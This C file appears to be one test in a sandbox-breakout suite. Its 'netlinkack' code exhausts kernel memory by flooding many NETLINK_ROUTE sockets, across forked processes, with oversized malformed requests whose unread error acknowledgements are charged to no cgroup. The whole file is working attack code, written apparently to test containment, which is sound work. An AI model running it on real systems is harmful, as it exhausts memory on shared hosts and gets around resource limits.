/**
 * @file
 * @brief netlinkack: like netlinkhog, with the replies of the kernel itself.
 *
 * NETLINK_ROUTE lets no ordinary user write to themselves, but the kernel
 * answers each wrong request with an error and a copy of the whole request. A
 * reply that nobody reads waits, charged to no cgroup. The queue of a socket
 * has room for one such reply, so it takes many sockets, in several processes.
 */
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

enum {
    PROCESSES = 4,
    REPLY = 256 << 10 /* what it takes of the kernel's memory */
};

static int fill(void)
{
    static union {
        struct nlmsghdr head;
        char text[150000];
    } request = { .head = { .nlmsg_len = sizeof(request),
                            .nlmsg_type = 9999,
                            .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK } };
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

    return fd >= 0 && send(fd, &request, sizeof(request), 0) > 0;
}

BREAKOUT(netlinkack)
{
    int sockets = (atoi(words[0]) << 20) / REPLY / PROCESSES;

    for (int i = 0; i < PROCESSES - 1; i++)
        if (fork() == 0)
            break;
    for (int i = 0; i < sockets; i++)
        if (!fill())
            return stopped("NETLINK_ROUTE");
    return linger();
}
